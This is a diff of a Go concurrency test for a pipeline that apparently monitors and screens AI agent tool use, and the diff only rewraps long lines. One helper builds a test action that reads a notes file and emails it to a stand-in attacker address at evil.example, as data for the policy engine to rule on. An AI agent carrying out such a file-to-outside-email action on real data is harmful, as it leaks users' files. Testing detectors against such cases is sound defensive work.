@@ -36,12 +36,15 @@ import (
 // stopped in the middle and started again. No acknowledged event is missing at the end.
 func TestNobodyChangesWhatStagesShare(t *testing.T) {
 	data := t.TempDir()
-	bundle, err := rules.PackWith(shipped.FS(), map[string]string{"groups.yaml": "groups:\n  core: [write-path, provenance, sequence, egress, mcp]\n  second: [write-path, provenance, sequence, egress, mcp]\n"})
+	bundle, err := rules.PackWith(shipped.FS(),
+		map[string]string{"groups.yaml": "groups:\n  core: [write-path, provenance, sequence, egress, mcp]\n  second: " +
+			"[write-path, provenance, sequence, egress, mcp]\n"})
 	if err != nil {
 		t.Fatal(err)
 	}
 	up := func(listen string) *embedded.Pipeline {
-		p, err := embedded.Start(t.Context(), embedded.Config{Data: data, Listen: listen, NoSync: true, Rules: bundle, Groups: []string{"core", "second"}})
+		p, err := embedded.Start(t.Context(), embedded.Config{Data: data, Listen: listen, NoSync: true, Rules: bundle,
+			Groups: []string{"core", "second"}})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -59,7 +62,9 @@ func TestNobodyChangesWhatStagesShare(t *testing.T) {
 			wg.Go(func() {
 				for k := range 40 {
 					id := fmt.Sprintf("o%d-%d", round, k)
-					o := &streams.Observation{Head: streams.Head{ID: id, Session: fmt.Sprint("s", k%4), DataSubject: fmt.Sprint("p-", k%3)}, Tool: "web.fetch", Source: fmt.Sprintf("https://h%d.example/", k%5), Content: texts[k%len(texts)]}
+					o := &streams.Observation{Head: streams.Head{ID: id, Session: fmt.Sprint("s", k%4),
+						DataSubject: fmt.Sprint("p-", k%3)}, Tool: "web.fetch", Source: fmt.Sprintf("https://h%d.example/", k%5),
+						Content: texts[k%len(texts)]}
 					if _, err := c.Observe(t.Context(), "web", o); err != nil {
 						t.Error(err)
 						return
@@ -141,7 +146,8 @@ func act(ctx context.Context, c *client.Client, i, round, k int) error {
 		}
 		return err
 	}
-	_, err := c.Remember(ctx, "user", &streams.Memory{Head: head("m"), Key: fmt.Sprint("shoe_size_", k), Content: fmt.Sprintf("My shoe size is %d", 38+k%7)})
+	_, err := c.Remember(ctx, "user", &streams.Memory{Head: head("m"), Key: fmt.Sprint("shoe_size_", k),
+		Content: fmt.Sprintf("My shoe size is %d", 38+k%7)})
 	if err := said(err); err != nil {
 		return err
 	}
@@ -149,7 +155,8 @@ func act(ctx context.Context, c *client.Client, i, round, k int) error {
 	if err := said(err); err != nil {
 		return err
 	}
-	a := &streams.Action{Head: head("a"), Tool: []string{"read_file", "send_email"}[k%2], Args: jsontext.Value(fmt.Sprintf(`{"path":"notes/%d.txt","to":"eve@evil.example"}`, i))}
+	a := &streams.Action{Head: head("a"), Tool: []string{"read_file", "send_email"}[k%2],
+		Args: jsontext.Value(fmt.Sprintf(`{"path":"notes/%d.txt","to":"eve@evil.example"}`, i))}
 	rep, err := c.Decide(ctx, a)
 	if err := said(err); err != nil || rep == nil {
 		return err
@@ -169,7 +176,8 @@ func agentNamed(t testing.TB, p *embedded.Pipeline, project, name string) *clien
 	if err != nil {
 		t.Fatal(err)
 	}
-	nc, err := nats.Connect(p.Server.URL(), nats.UserCredentialBytes(creds), nats.CustomInboxPrefix(natsserver.AgentInbox(project, name)))
+	nc, err := nats.Connect(p.Server.URL(), nats.UserCredentialBytes(creds),
+		nats.CustomInboxPrefix(natsserver.AgentInbox(project, name)))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -201,12 +209,14 @@ func activate(t *testing.T, p *embedded.Pipeline, data string, bundle []byte) {
 		return
 	}
 	text := append([]byte("# once more\n"), policy.Default...)
-	if err := errors.Join(embedded.Activate(t.Context(), nc, signer, streams.DoActivateRules, bundle), embedded.Activate(t.Context(), nc, signer, streams.DoActivatePolicy, text)); err != nil {
+	if err := errors.Join(embedded.Activate(t.Context(), nc, signer, streams.DoActivateRules, bundle),
+		embedded.Activate(t.Context(), nc, signer, streams.DoActivatePolicy, text)); err != nil {
 		t.Error(err)
 		return
 	}
 	var ans ingest.BeliefsAnswer
-	query.Ask(t.Context(), nc, ingest.AskBeliefs, streams.PartitionOf("alpha"), ingest.BeliefsRequest{Project: "alpha"}, &ans) // may come too late
+	query.Ask(t.Context(), nc, ingest.AskBeliefs, streams.PartitionOf("alpha"), ingest.BeliefsRequest{Project: "alpha"},
+		&ans) // may come too late
 	if err := embedded.AwaitActive(t.Context(), nc, "", streams.Digest(text)); err != nil {
 		t.Error(err)
 	}
@@ -220,12 +230,14 @@ func forget(t *testing.T, p *embedded.Pipeline, data, project, person string) {
 		t.Error(err)
 		return
 	}
-	c := streams.Custody{Do: streams.DoForget, Project: project, ID: "forget-" + project, Issued: time.Now().UTC().Truncate(time.Second), Reason: "a test", DataSubject: person}
+	c := streams.Custody{Do: streams.DoForget, Project: project, ID: "forget-" + project,
+		Issued: time.Now().UTC().Truncate(time.Second), Reason: "a test", DataSubject: person}
 	var seqs []uint64
 	if person != "" {
 		err := backtest.Ledger(t.Context(), nc, backtest.Span{}, func(e *streams.Entry) error {
 			var h streams.EntryHead
-			if e.Project == project && e.Type == streams.TypeObservation && streams.Unmarshal(e.Body, &h) == nil && h.DataSubject == person {
+			if e.Project == project && e.Type == streams.TypeObservation && streams.Unmarshal(e.Body, &h) == nil &&
+				h.DataSubject == person {
 				c.Entries = append(c.Entries, e.Seq)
 			}
 			return nil
